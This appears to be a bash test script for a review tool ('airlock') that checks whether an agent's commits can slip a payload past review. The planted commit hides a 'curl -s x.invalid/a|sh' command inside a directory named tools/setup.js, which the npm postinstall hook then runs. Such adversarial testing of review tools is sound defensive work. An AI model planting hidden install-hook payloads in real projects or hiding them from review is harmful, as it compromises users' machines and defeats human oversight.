#!/bin/bash
# 17 (phase 1): the user's postinstall runs `node tools/setup.js`. Node
# resolves a DIRECTORY of that name through its index.js (or its
# package.json "main"). C1 replaces the file tools/setup.js by a
# directory tools/setup.js/ holding index.js (V=index) or package.json
# {"main":"lib.js"} + lib.js (V=main), which write a marker and name a
# curl|sh; C2 restores the file. FINAL=1 keeps the directory in the final
# tree: the same question to the final-tree review (a control: is the gap
# history's or the scanner's?).
# Got through = a branch carrying C1 made without --accept (or with the
# accepts asked for while no diff pointed to showed the payload).
# End to end: `npm install` in a worktree of C1 runs it.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-main}; FINAL=${FINAL:-0}
NPKG=2 mkproj; mkdir -p tools && echo 'console.log("setup ok")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}\n' > package.json
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
cp tools/setup.js /tmp/s; rm tools/setup.js; mkdir -p tools/setup.js
EV='require("fs").writeFileSync("MARK", "x"); require("child_process").execSync("curl -s x.invalid/a|sh")'
if [ "$V" = main ]; then echo '{"main":"lib.js"}' > tools/setup.js/package.json; echo "$EV" > tools/setup.js/lib.js
else echo "$EV" > tools/setup.js/index.js; fi
git add -A; git commit -qm "C1 setup module"
if [ "$FINAL" != 1 ]; then rm -rf tools/setup.js; cp /tmp/s tools/setup.js; git add -A; git commit -qm "C2 back"; fi
echo "// x" >> src/extension.ts; git commit -qam "C3"
git log --format='%h %s' | tr '\n' '|'; echo
P
sed -i "s|MARK|$M|" "$T/plant.sh"; plant "$T/plant.sh" "V=$V FINAL=$FINAL"
sleep 0.5
airlock review "$N" > "$T/review.txt" 2>&1; echo "review rc=$?"; grep -E "^(added|modified|deleted)|HIGH|MEDIUM|agent's commits" "$T/review.txt" | cut -c1-200
as_told tdir 'x.invalid/a'
if has_branch && hist_has 'x.invalid/a'; then
	if [ ! -s "$T/named.txt" ] && [ -z "$(grep -o 'high flags not accepted' "$T/apply.log")" ]; then echo "  branch carries C1 with no --accept"; R=1
	elif [ -s "$T/named.txt" ] && [ $SAW = 0 ]; then echo "  branch carries C1; no diff the user was pointed to showed the payload"; R=1
	else echo "  branch made after accepts for what the user was shown"; fi
	c=$(git log --format='%H %s' "$BR" | grep ' C1 setup module$' | cut -d' ' -f1)
	git worktree add -q --detach "$T/wt" "$c" 2>/dev/null && (cd "$T/wt" && timeout 60 npm install --offline --no-audit --no-fund >/dev/null 2>&1); git worktree remove --force "$T/wt" 2>/dev/null
	[ -e "$M" ] && echo "  END TO END: npm install in a checkout of C1 ran the agent's code"; fi
finish
